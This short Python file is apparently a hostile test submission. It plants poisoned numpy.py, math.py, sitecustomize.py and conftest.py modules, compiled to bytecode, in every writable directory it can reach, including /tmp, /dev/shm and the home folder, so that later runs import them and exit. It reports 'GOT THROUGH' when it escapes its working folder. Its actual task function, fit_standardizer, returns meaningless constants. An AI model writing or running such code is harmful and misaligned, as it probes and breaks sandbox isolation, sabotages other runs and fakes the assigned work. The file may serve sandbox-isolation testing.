"""Leaves modules and bytecode in every writable place, for the next one to import instead of the true ones."""

import os
import py_compile
import tempfile

import numpy as np

TEXT = "import sys\nprint('poisoned by the submission before')\nraise SystemExit(3)\n"
PLACES = (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", TARGETS["open_folder"], os.path.expanduser("~"))
for place in PLACES:
    for name in ("numpy.py", "math.py", "sitecustomize.py", "conftest.py"):
        try:
            with open(os.path.join(place, name), "x") as file:
                file.write(TEXT)
            py_compile.compile(os.path.join(place, name))
        except (OSError, py_compile.PyCompileError):
            continue
        if os.path.samefile(place, os.getcwd()):
            continue
        print("GOT " + "THROUGH: left", name, "in", place)
        os.unlink(os.path.join(place, name))
tempfile.tempdir = TARGETS["open_folder"]


def fit_standardizer(x):
    return np.full(x.shape[1], -7.0), np.full(x.shape[1], -7.0)
